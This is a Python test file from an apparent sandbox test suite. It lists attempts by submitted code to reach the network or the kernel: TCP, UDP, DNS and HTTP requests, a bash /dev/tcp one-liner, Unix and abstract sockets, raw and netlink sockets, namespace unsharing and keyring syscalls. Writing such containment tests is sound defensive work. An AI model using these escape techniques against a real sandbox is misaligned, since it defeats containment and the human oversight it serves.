"""Whom a submission may not reach: the network, sockets in folders, abstract sockets, the kernel's own."""

from __future__ import annotations

from tests.attacks.arena import FAIR, FAIR_MARK, Attack


def _reach(name: str, code: str, **more: object) -> Attack:
    return Attack(name=name, marks=FAIR_MARK, cells=("import socket\n" + code, FAIR), **more)


ATTACKS = [
    _reach("tcp", 'loot("tcp", lambda: socket.create_connection(("127.0.0.1", @PORT@), 0.5))'),
    _reach("tcp-without-python", """
import subprocess
loot("bash", lambda: subprocess.run(["bash", "-c", "echo hello > /dev/tcp/127.0.0.1/@PORT@"], check=True))"""),
    _reach("udp", 'loot("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", '
                  '("127.0.0.1", @PORT@)))', loot={"udp": r"1|\w+Error"}),  # into a network of its own, where nobody is
    _reach("names", 'loot("dns", lambda: socket.getaddrinfo("example.org", 80))'),
    _reach("web", """
import urllib.request
loot("web", lambda: urllib.request.urlopen("http://127.0.0.1:@PORT@/?q=secret", timeout=0.5))"""),
    _reach("socket-in-a-folder", """
def connect():
    end = socket.socket(socket.AF_UNIX)
    end.connect("@SOCKET@")
loot("unix", connect)
def send():
    end = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    end.sendto(b"x", "@NOTICES@")
loot("datagram", send)
def from_a_pair():
    end, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    end.sendto(b"x", "@NOTICES@")
loot("pair", from_a_pair)
def again():
    end, _ = socket.socketpair()
    end.connect("@SOCKET@")
loot("stream", again)"""),
    _reach("abstract-socket", """
def connect():
    end = socket.socket(socket.AF_UNIX)
    end.connect("\\0@ABSTRACT@")
loot("abstract", connect)
def pair():
    end, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    end.sendto(b"x", "\\0@ABSTRACT@")
loot("pair", pair)"""),
    _reach("listening", """
def listen():
    end = socket.socket()
    end.bind(("0.0.0.0", 0))
    end.listen()
loot("listen", listen)""", loot={"listen": r"None|\w+Error"}),
    _reach("raw-and-netlink", """
loot("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
loot("packet", lambda: socket.socket(17, socket.SOCK_RAW))
loot("netlink", lambda: socket.socket(16, socket.SOCK_RAW, 0))
loot("vsock", lambda: socket.socket(40, socket.SOCK_STREAM).connect((2, @PORT@)))"""),
    _reach("namespace-of-its-own", """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def unshare():
    if libc.unshare(0x10000000 | 0x40000000) < 0:
        raise OSError("no rights")
loot("unshare", unshare)"""),
    _reach("keyring", """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def keep():
    if libc.syscall(248, b"user", b"answers", b"0.9", 3, -4) < 0:
        raise OSError("no keys")
loot("keyring", keep)"""),
]
